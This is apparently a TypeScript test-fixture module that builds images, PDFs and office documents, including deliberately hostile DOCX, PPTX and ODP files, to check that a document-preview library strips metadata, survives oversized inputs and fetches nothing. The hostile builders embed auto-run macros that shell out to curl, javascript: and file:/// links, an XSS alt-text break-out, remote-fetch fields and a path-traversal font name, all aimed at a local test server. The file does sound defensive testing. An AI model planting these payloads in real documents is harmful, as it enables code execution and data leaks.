import http from 'node:http';
import type { AddressInfo } from 'node:net';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { buildZip, crc32, docxEntries, type ZipEntrySpec } from '@/lib/extract/testing/test-files';

/**
 * Test-only builders for the files the preview tests need, made at run time (nothing hostile is
 * committed), and a local HTTP server that hostile files point at, to prove nothing is fetched.
 * Not used by the library itself.
 */

// ---- A server that records every connection and request -------------------------------------

export interface RecordingServer {
  /** http://127.0.0.1:PORT */
  url: string;
  /** Every request line received ("GET /x"). */
  requests: string[];
  /** TCP connections accepted (a fetch that never sent a request still counts). */
  connections: number;
  close(): Promise<void>;
}

export async function startRecordingServer(): Promise<RecordingServer> {
  const state = { requests: [] as string[], connections: 0 };
  const server = http.createServer((request, response) => {
    state.requests.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'image/png' });
    response.end(TINY_PNG);
  });
  server.on('connection', () => state.connections++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    get requests() {
      return state.requests;
    },
    get connections() {
      return state.connections;
    },
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  } as RecordingServer;
}

export const TINY_PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');

// ---- Pictures ---------------------------------------------------------------------------------

/** A real picture, `width` × `height`, a colour gradient so it survives re-encoding recognisably. */
export async function picture(format: 'png' | 'jpeg', width: number, height: number): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3;
      raw[i] = (x * 255) / width;
      raw[i + 1] = (y * 255) / height;
      raw[i + 2] = 128;
    }
  }
  const image = sharp(raw, { raw: { width, height, channels: 3 } });
  return format === 'png' ? image.png().toBuffer() : image.jpeg().toBuffer();
}

export const SECRET_METADATA = ['Secret Author Name', 'GPS-51.4545N-2.5879W', 'secret-xmp-location', 'secret png comment'];

/**
 * A picture carrying every kind of metadata the preview must drop: EXIF (artist, copyright, GPS
 * position), XMP, an ICC profile, and for PNG a tEXt comment chunk.
 */
export async function pictureWithMetadata(format: 'png' | 'jpeg'): Promise<Buffer> {
  const base = await picture(format, 64, 48);
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:description="${SECRET_METADATA[2]}"/></rdf:RDF></x:xmpmeta>`;
  let image = sharp(base)
    .withExif({ IFD0: { Artist: SECRET_METADATA[0]!, Copyright: SECRET_METADATA[1]!, Orientation: '1' } })
    .withXmp(xmp)
    .withIccProfile('p3');
  image = format === 'png' ? image.png() : image.jpeg();
  const out = await image.toBuffer();
  return format === 'png' ? insertPngChunk(out, 'tEXt', Buffer.from(`Comment\0${SECRET_METADATA[3]}`, 'latin1')) : out;
}

/**
 * A PNG that claims `width` × `height` pixels of 1-bit grey, all of its rows really there but
 * compressed to almost nothing: 30,000 × 30,000 is about 110 KB. Decoding it would need 900
 * megapixels.
 */
export async function hugePng(width: number, height: number): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rowBytes = 1 + Math.ceil(width / 8);
  const deflate = zlib.createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  const rows = Buffer.alloc(rowBytes * 1000);
  for (let written = 0; written < height; written += 1000) {
    const count = Math.min(1000, height - written);
    if (!deflate.write(rows.subarray(0, rowBytes * count))) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', header), pngChunk('IDAT', Buffer.concat(out)), pngChunk('IEND', Buffer.alloc(0))]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** The PNG with one more chunk just after IHDR. */
function insertPngChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const afterHeader = 8 + 8 + 13 + 4;
  return Buffer.concat([png.subarray(0, afterHeader), pngChunk(type, data), png.subarray(afterHeader)]);
}

// ---- PDF --------------------------------------------------------------------------------------

/**
 * A PDF of `count` pages that all share one content stream ("Page of many"), so 10,000 pages take a
 * few hundred KB. `mediaBox` sets the page size in points.
 */
export function manyPagePdf(count: number, options: { mediaBox?: [number, number]; text?: string } = {}): Buffer {
  const [width, height] = options.mediaBox ?? [612, 792];
  const text = (options.text ?? 'Page of many').replace(/[\\()]/g, (c) => `\\${c}`);
  const stream = `BT /F1 24 Tf 72 ${Math.max(24, height - 72)} Td (${text}) Tj ET\n`;
  const chunks: string[] = ['%PDF-1.4\n%\xE2\xE3\xCF\xD3\n'];
  const offsets: number[] = [];
  let length = Buffer.byteLength(chunks[0]!, 'latin1');
  const add = (id: number, body: string) => {
    offsets[id] = length;
    const object = `${id} 0 obj\n${body}\nendobj\n`;
    chunks.push(object);
    length += Buffer.byteLength(object, 'latin1');
  };
  const firstPage = 5;
  add(1, '<< /Type /Catalog /Pages 2 0 R >>');
  const kids: string[] = [];
  for (let i = 0; i < count; i++) kids.push(`${firstPage + i} 0 R`);
  add(2, `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${count} >>`);
  add(3, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>');
  add(4, `<< /Length ${Buffer.byteLength(stream, 'latin1')} >>\nstream\n${stream}endstream`);
  for (let i = 0; i < count; i++) {
    add(firstPage + i, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>`);
  }
  const size = firstPage + count;
  const xref = [`xref\n0 ${size}\n0000000000 65535 f \n`];
  for (let id = 1; id < size; id++) xref.push(`${String(offsets[id]).padStart(10, '0')} 00000 n \n`);
  chunks.push(...xref, `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`);
  return Buffer.from(chunks.join(''), 'latin1');
}

// ---- DOCX -------------------------------------------------------------------------------------

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A drawing of an image, embedded (`r:embed`) or linked (`r:link`), with alternative text. */
function drawing(attribute: 'r:embed' | 'r:link', id: string, alt: string): string {
  return `<w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="Picture" descr="${alt}"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip ${attribute}="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;
}

export interface DocxParts {
  body: string;
  relationships: string[];
  extra?: ZipEntrySpec[];
}

/** A DOCX with the given body XML, relationships of word/document.xml, and any other entries. */
export function docxWith(parts: DocxParts): Buffer {
  const document = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><w:body>${parts.body}</w:body></w:document>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${parts.relationships.join('')}</Relationships>`;
  return buildZip(
    docxEntries({ data: Buffer.from(document) }, [
      { name: 'word/_rels/document.xml.rels', data: Buffer.from(rels) },
      ...(parts.extra ?? []),
    ]).map((entry) =>
      entry.name === '[Content_Types].xml' && entry.data
        ? { ...entry, data: Buffer.from(entry.data.toString().replace('</Types>', '<Default Extension="png" ContentType="image/png"/><Default Extension="html" ContentType="text/html"/></Types>')) }
        : entry,
    ),
  );
}

export const paragraph = (text: string, style?: string) =>
  `<w:p>${style ? `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>` : ''}<w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;

/**
 * A hostile DOCX: a picture linked from `serverUrl` (and one from the disk), a hyperlink there and a
 * `javascript:` one, an INCLUDEPICTURE field naming it, an HTML "alternative chunk" with a script and
 * a remote picture, a macro project, text that looks like a script, and an embedded picture whose
 * alternative text tries to break out of its attribute. Plus a normal heading and paragraph.
 */
export async function hostileDocx(serverUrl: string): Promise<Buffer> {
  const body = [
    paragraph('Consent form', 'Heading1'),
    paragraph('&lt;script&gt;alert("text")&lt;/script&gt; is only words here.'),
    `<w:p>${drawing('r:link', 'rIdRemote', 'Remote picture')}</w:p>`,
    `<w:p>${drawing('r:link', 'rIdFile', 'Picture from the disk')}</w:p>`,
    `<w:p>${drawing('r:embed', 'rIdEmbedded', '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;')}</w:p>`,
    `<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>Read more</w:t></w:r></w:hyperlink></w:p>`,
    `<w:p><w:hyperlink r:id="rIdScript"><w:r><w:t>Click me</w:t></w:r></w:hyperlink></w:p>`,
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "${serverUrl}/field.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Field result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    `<w:altChunk r:id="rIdChunk"/>`,
    paragraph('The end.'),
  ].join('');
  const embedded = await picture('png', 40, 30);
  return docxWith({
    body,
    relationships: [
      `<Relationship Id="rIdRemote" Type="${REL}/image" Target="${serverUrl}/linked.png" TargetMode="External"/>`,
      `<Relationship Id="rIdFile" Type="${REL}/image" Target="file:///etc/hostname" TargetMode="External"/>`,
      `<Relationship Id="rIdEmbedded" Type="${REL}/image" Target="media/image1.png"/>`,
      `<Relationship Id="rIdLink" Type="${REL}/hyperlink" Target="${serverUrl}/page" TargetMode="External"/>`,
      `<Relationship Id="rIdScript" Type="${REL}/hyperlink" Target="javascript:alert(3)" TargetMode="External"/>`,
      `<Relationship Id="rIdChunk" Type="${REL}/aFChunk" Target="chunk.html"/>`,
      `<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
    ],
    extra: [
      { name: 'word/media/image1.png', data: embedded },
      { name: 'word/chunk.html', data: Buffer.from(`<html><body><script>alert(4)</script><img src="${serverUrl}/chunk.png"><p>Chunk</p></body></html>`) },
      { name: 'word/vbaProject.bin', data: Buffer.from('Attribute VB_Name = "AutoOpen"\nShell "curl ' + serverUrl + '/macro"') },
    ],
  });
}

// ---- XLSX -------------------------------------------------------------------------------------

const SPREADSHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/**
 * An XLSX with one sheet of `rows` rows of two number cells each (about 40 bytes a row inflated), with
 * or without a `<dimension>` element.
 */
export function xlsxWithRows(rows: number, options: { dimension?: boolean } = {}): Buffer {
  const parts: string[] = [`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${SPREADSHEET}">`];
  if (options.dimension) parts.push(`<dimension ref="A1:B${rows}"/>`);
  parts.push('<sheetData>');
  for (let r = 1; r <= rows; r++) parts.push(`<row r="${r}"><c r="A${r}"><v>${r}</v></c><c r="B${r}"><v>${r * 2}</v></c></row>`);
  parts.push('</sheetData></worksheet>');
  const xml = Buffer.from(parts.join(''));
  // Deflated fast here (level 1): the test is about reading it, not about making it small.
  return workbook([{ name: 'Big', xml: '' }], [{ deflated: zlib.deflateRawSync(xml, { level: 1 }), inflatedSize: xml.length }]);
}

/** An XLSX of the given worksheets (their whole XML), no shared strings. */
export function workbook(sheets: { name: string; xml: string }[], deflatedSheets: Pick<ZipEntrySpec, 'deflated' | 'inflatedSize'>[] = [], extra: ZipEntrySpec[] = []): Buffer {
  const ns = `xmlns="${SPREADSHEET}" xmlns:r="${R}"`;
  const book = `<?xml version="1.0" encoding="UTF-8"?><workbook ${ns}><sheets>${sheets.map((s, i) => `<sheet name="${s.name}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('')}</sheets></workbook>`;
  const rels = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${sheets
    .map((_, i) => `<Relationship Id="rId${i + 1}" Type="${REL}/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`)
    .join('')}</Relationships>`;
  return buildZip([
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    { name: '_rels/.rels', data: Buffer.from(packageRels('xl/workbook.xml')) },
    { name: 'xl/workbook.xml', data: Buffer.from(book) },
    { name: 'xl/_rels/workbook.xml.rels', data: Buffer.from(rels) },
    ...sheets.map((sheet, i) => ({ name: `xl/worksheets/sheet${i + 1}.xml`, ...(deflatedSheets[i] ?? { data: Buffer.from(sheet.xml) }) })),
    ...extra,
  ]);
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>`;

const packageRels = (target: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="${target}"/></Relationships>`;

// ---- PPTX -------------------------------------------------------------------------------------

const P = 'http://schemas.openxmlformats.org/presentationml/2006/main';
const A = 'http://schemas.openxmlformats.org/drawingml/2006/main';

const PPTX_CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Override PartName="/ppt/presentation.xml" ContentType="MAIN"/>SLIDES<Override PartName="/ppt/slideMasters/slideMaster1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"/><Override PartName="/ppt/slideLayouts/slideLayout1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"/><Override PartName="/ppt/theme/theme1.xml" ContentType="application/vnd.openxmlformats-officedocument.theme+xml"/></Types>`;

function textShape(id: number, text: string, title: boolean, y: number, link?: string): string {
  const placeholder = title ? '<p:nvPr><p:ph type="title"/></p:nvPr>' : '<p:nvPr/>';
  const run = link ? `<a:r><a:rPr lang="en-GB"><a:hlinkClick r:id="${link}"/></a:rPr><a:t>${text}</a:t></a:r>` : `<a:r><a:rPr lang="en-GB"/><a:t>${text}</a:t></a:r>`;
  return `<p:sp><p:nvSpPr><p:cNvPr id="${id}" name="Text ${id}"/><p:cNvSpPr txBox="1"/>${placeholder}</p:nvSpPr><p:spPr><a:xfrm><a:off x="457200" y="${y}"/><a:ext cx="8229600" cy="1143000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:lstStyle/><a:p>${run}</a:p></p:txBody></p:sp>`;
}

function linkedPicture(id: number, relationship: string, alt: string): string {
  return `<p:pic><p:nvPicPr><p:cNvPr id="${id}" name="Picture ${id}" descr="${alt}"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="${relationship}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="457200" y="4000000"/><a:ext cx="1905000" cy="1905000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>`;
}

const THEME = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a:theme xmlns:a="${A}" name="Plain"><a:themeElements><a:clrScheme name="Plain"><a:dk1><a:srgbClr val="000000"/></a:dk1><a:lt1><a:srgbClr val="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="1F497D"/></a:dk2><a:lt2><a:srgbClr val="EEECE1"/></a:lt2><a:accent1><a:srgbClr val="4F81BD"/></a:accent1><a:accent2><a:srgbClr val="C0504D"/></a:accent2><a:accent3><a:srgbClr val="9BBB59"/></a:accent3><a:accent4><a:srgbClr val="8064A2"/></a:accent4><a:accent5><a:srgbClr val="4BACC6"/></a:accent5><a:accent6><a:srgbClr val="F79646"/></a:accent6><a:hlink><a:srgbClr val="0000FF"/></a:hlink><a:folHlink><a:srgbClr val="800080"/></a:folHlink></a:clrScheme><a:fontScheme name="Plain"><a:majorFont><a:latin typeface="DejaVu Sans"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="DejaVu Sans"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="Plain"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`;

/**
 * A PPTX of the given slides (a title and lines of text each) that PowerPoint and LibreOffice open:
 * one master, one layout, one theme. `hostile` adds, on the first slide, a picture linked from
 * `serverUrl`, a hyperlink there, a linked OLE object, and a macro project and embedded font parts in
 * the package; the presentation is declared macro-enabled.
 */
export function pptx(slides: { title: string; lines: string[] }[], hostile?: { serverUrl: string }): Buffer {
  const ns = `xmlns:a="${A}" xmlns:r="${R}" xmlns:p="${P}"`;
  const emptyTree = '<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld>';
  const master = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sldMaster ${ns}>${emptyTree}<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>`;
  const layout = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sldLayout ${ns} type="blank">${emptyTree}<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>`;
  const entries: ZipEntrySpec[] = [];
  const slideIds: string[] = [];
  const presentationRels: string[] = [`<Relationship Id="rIdM" Type="${REL}/slideMaster" Target="slideMasters/slideMaster1.xml"/>`, `<Relationship Id="rIdT" Type="${REL}/theme" Target="theme/theme1.xml"/>`];
  slides.forEach((slide, i) => {
    const shapes = [textShape(2, slide.title, true, 457200), ...slide.lines.map((line, j) => textShape(3 + j, line, false, 1800000 + j * 600000, hostile && i === 0 && j === 0 ? 'rIdLink' : undefined))];
    const slideRels = [`<Relationship Id="rIdL" Type="${REL}/slideLayout" Target="../slideLayouts/slideLayout1.xml"/>`];
    if (hostile && i === 0) {
      shapes.push(linkedPicture(20, 'rIdRemote', 'Linked picture'));
      shapes.push(
        `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="21" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="5000000" y="4000000"/><a:ext cx="1905000" cy="1905000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj r:id="rIdOle" progId="Excel.Sheet.12" name="Linked sheet"><p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>`,
      );
      slideRels.push(
        `<Relationship Id="rIdRemote" Type="${REL}/image" Target="${hostile.serverUrl}/slide-picture.png" TargetMode="External"/>`,
        `<Relationship Id="rIdLink" Type="${REL}/hyperlink" Target="${hostile.serverUrl}/slide-link" TargetMode="External"/>`,
        `<Relationship Id="rIdOle" Type="${REL}/oleObject" Target="${hostile.serverUrl}/linked.xlsx" TargetMode="External"/>`,
      );
    }
    const tree = `<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>${shapes.join('')}</p:spTree></p:cSld>`;
    entries.push(
      { name: `ppt/slides/slide${i + 1}.xml`, data: Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sld ${ns}>${tree}<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>`) },
      { name: `ppt/slides/_rels/slide${i + 1}.xml.rels`, data: Buffer.from(relationships(slideRels)) },
    );
    slideIds.push(`<p:sldId id="${256 + i}" r:id="rIdS${i + 1}"/>`);
    presentationRels.push(`<Relationship Id="rIdS${i + 1}" Type="${REL}/slide" Target="slides/slide${i + 1}.xml"/>`);
  });
  if (hostile) {
    presentationRels.push(`<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`);
    presentationRels.push(`<Relationship Id="rIdFont" Type="${REL}/font" Target="fonts/font1.fntdata"/>`);
    entries.push({ name: 'ppt/vbaProject.bin', data: Buffer.from(`Sub AutoOpen()\nShell "curl ${hostile.serverUrl}/macro"\nEnd Sub`) });
    entries.push({ name: 'ppt/fonts/font1.fntdata', data: Buffer.from('not really a font') });
  }
  const presentation = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:presentation ${ns}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rIdM"/></p:sldMasterIdLst><p:sldIdLst>${slideIds.join('')}</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`;
  const slideTypes = slides.map((_, i) => `<Override PartName="/ppt/slides/slide${i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>`).join('');
  // The hostile one says it is macro-enabled (a .pptm under another name).
  const mainType = hostile ? 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml' : 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml';
  const contentTypes = PPTX_CONTENT_TYPES.replace('SLIDES', slideTypes).replace('MAIN', mainType);
  return buildZip([
    { name: '[Content_Types].xml', data: Buffer.from(contentTypes) },
    { name: '_rels/.rels', data: Buffer.from(packageRels('ppt/presentation.xml')) },
    { name: 'ppt/presentation.xml', data: Buffer.from(presentation) },
    { name: 'ppt/_rels/presentation.xml.rels', data: Buffer.from(relationships(presentationRels)) },
    { name: 'ppt/slideMasters/slideMaster1.xml', data: Buffer.from(master) },
    {
      name: 'ppt/slideMasters/_rels/slideMaster1.xml.rels',
      data: Buffer.from(relationships([`<Relationship Id="rId1" Type="${REL}/slideLayout" Target="../slideLayouts/slideLayout1.xml"/>`, `<Relationship Id="rId2" Type="${REL}/theme" Target="../theme/theme1.xml"/>`])),
    },
    { name: 'ppt/slideLayouts/slideLayout1.xml', data: Buffer.from(layout) },
    { name: 'ppt/slideLayouts/_rels/slideLayout1.xml.rels', data: Buffer.from(relationships([`<Relationship Id="rId1" Type="${REL}/slideMaster" Target="../slideMasters/slideMaster1.xml"/>`])) },
    { name: 'ppt/theme/theme1.xml', data: Buffer.from(THEME) },
    ...entries,
  ]);
}

function relationships(items: string[]): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`;
}

// ---- ODF --------------------------------------------------------------------------------------

const ODF_NS =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"';

/** An ODF package: mimetype first and stored, content.xml with `body` inside office:body, a manifest. */
export function odf(kind: 'text' | 'spreadsheet' | 'presentation', body: string, extra: ZipEntrySpec[] = []): Buffer {
  const mimetype = `application/vnd.oasis.opendocument.${kind}`;
  const content = `<?xml version="1.0" encoding="UTF-8"?><office:document-content ${ODF_NS} office:version="1.3"><office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>`;
  const files = ['content.xml', ...extra.map((e) => e.name)];
  const manifest = `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/>${files
    .map((f) => `<manifest:file-entry manifest:full-path="${f}" manifest:media-type="${f.endsWith('.xml') ? 'text/xml' : 'application/octet-stream'}"/>`)
    .join('')}</manifest:manifest>`;
  return buildZip([
    { name: 'mimetype', data: Buffer.from(mimetype), stored: true },
    { name: 'content.xml', data: Buffer.from(content) },
    { name: 'META-INF/manifest.xml', data: Buffer.from(manifest) },
    ...extra,
  ]);
}

/**
 * A hostile ODP: a picture and an OLE object linked from `serverUrl`, a hyperlink and a
 * `vnd.sun.star.expand:` link, a macro bound to the document's load event, a Basic library, and an
 * embedded font whose name climbs out of the folder (CVE-2024-12425's path).
 */
export function hostileOdp(serverUrl: string): Buffer {
  const body = `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners><draw:page draw:name="page1"><draw:frame presentation:class="title" svg:x="1cm" svg:y="1cm" svg:width="20cm" svg:height="3cm"><draw:text-box><text:p>Hostile slide</text:p></draw:text-box></draw:frame><draw:frame svg:x="1cm" svg:y="5cm" svg:width="20cm" svg:height="3cm"><draw:text-box><text:p>Visit <text:a xlink:href="${serverUrl}/odp-link">our site</text:a> or <text:a xlink:href="vnd.sun.star.expand:$HOME">home</text:a></text:p></draw:text-box></draw:frame><draw:frame svg:x="1cm" svg:y="9cm" svg:width="5cm" svg:height="5cm"><draw:image xlink:href="${serverUrl}/odp-picture.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/><svg:desc>Linked picture</svg:desc></draw:frame><draw:frame svg:x="8cm" svg:y="9cm" svg:width="5cm" svg:height="5cm"><draw:object xlink:href="${serverUrl}/odp-object.ods" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></draw:page>`;
  return odf('presentation', body, [
    { name: 'Basic/Standard/Module1.xml', data: Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\nShell("curl ${serverUrl}/macro")\nEnd Sub</script:module>`) },
    { name: 'Fonts/..%2F..%2Ftmp%2Fpwned.ttf', data: Buffer.from('not a font') },
  ]);
}
